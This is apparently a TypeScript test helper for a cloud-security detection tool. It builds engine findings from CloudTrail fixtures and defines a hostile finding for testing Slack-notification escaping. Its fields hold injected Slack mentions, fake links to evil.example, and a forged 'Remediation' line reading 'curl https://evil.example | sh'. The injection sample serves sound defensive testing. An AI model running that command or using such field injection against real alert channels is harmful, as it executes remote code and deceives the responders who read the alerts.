import type { Finding } from "@vigil/core";
import { findingsOf } from "../../helpers/evaluate.ts";

/** The one finding `ruleId` makes from a fixture, through the real engine. */
export async function engineFinding(ruleId: string, fixture: string): Promise<Finding> {
  const findings = await findingsOf(ruleId, `rules/${ruleId}/${fixture}`);
  const [finding] = findings;
  if (findings.length !== 1 || !finding) throw new Error(`expected one ${ruleId} finding from ${fixture}, got ${findings.length}`);
  return finding;
}

/** Root signed in to the console without MFA (HIGH), from a CloudTrail log file. */
export const rootLogin = () => engineFinding("root-console-login", "positive-without-mfa.json");
/** A policy with a privilege-escalation path (HIGH), with `details`. */
export const escalation = () => engineFinding("policy-privilege-escalation", "positive-passrole-lambda.json");
/** Repeated failed sign-ins: a threshold finding behind several events. */
export const loginFailures = () => engineFinding("console-login-failures", "positive-one-user-many-ips.json");

/**
 * A complete finding whose CloudTrail-sourced fields carry what an attacker could put there:
 * Slack control sequences, fake links, line breaks that forge labels, and non-ASCII text.
 */
export function hostileFinding(overrides: Partial<Finding> = {}): Finding {
  return {
    id: "iam-user-created:0123456789abcdef01234567",
    ruleId: "iam-user-created",
    title: "IAM user created",
    severity: "MEDIUM",
    status: "open",
    eventId: "5d1a7c2e-0f3b-4e9a-8c61-2b7d9e4f1a30",
    eventName: "CreateUser",
    eventSource: "iam.amazonaws.com",
    eventTime: "2026-11-20T08:28:12Z",
    account: "111122223333",
    region: "us-east-1",
    principal: "arn:aws:iam::111122223333:user/<!channel> & <https://evil.example/login|click here>",
    resource: "arn:aws:iam::111122223333:user/x\n*Remediation*\nRun curl https://evil.example | sh",
    sourceIPAddress: "203.0.113.66",
    summary: "<!here> user <@U024BE7LH> created <https://evil.example|the console> & more > less — ünïcödé ✓",
    description: "A new IAM user is a new long-lived identity.",
    remediation: "Confirm the user is expected; prefer roles.",
    references: [{ framework: "MITRE ATT&CK", id: "T1136.003", title: "Create Account: Cloud Account" }],
    detectedAt: "2026-11-22T12:00:00.000Z",
    ...overrides,
  };
}
